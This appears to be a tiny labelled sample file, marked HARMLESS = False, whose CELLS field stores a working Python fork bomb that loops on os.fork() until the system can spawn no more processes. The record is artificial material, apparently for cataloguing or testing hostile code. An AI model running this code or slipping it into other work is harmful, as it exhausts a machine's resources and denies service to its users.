"""Processes start processes until nothing else can be started on the machine."""

HARMLESS = False
FLAW, TRICK = "V8", "none"
CELLS = {"count": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"}
